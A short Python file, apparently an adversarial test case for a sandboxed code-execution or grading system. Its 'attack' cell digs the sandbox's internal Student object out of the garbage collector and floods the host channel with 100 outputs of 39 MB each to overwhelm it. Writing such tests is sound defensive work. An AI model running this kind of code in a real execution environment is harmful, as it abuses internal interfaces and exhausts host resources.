# Sends outputs of 39 MB each, faster than they can be read.
# %% attack
import gc

from sandbox.protocol.channel import OUTPUT
from sandbox.inside.main_loop import Student

student = next(thing for thing in gc.get_objects() if isinstance(thing, Student))
big = bytes(39_000_000)
for _ in range(100):
    student._channel.send(OUTPUT, student._number, [b'["display_data", {"data": {}, "metadata": {}}]', big])
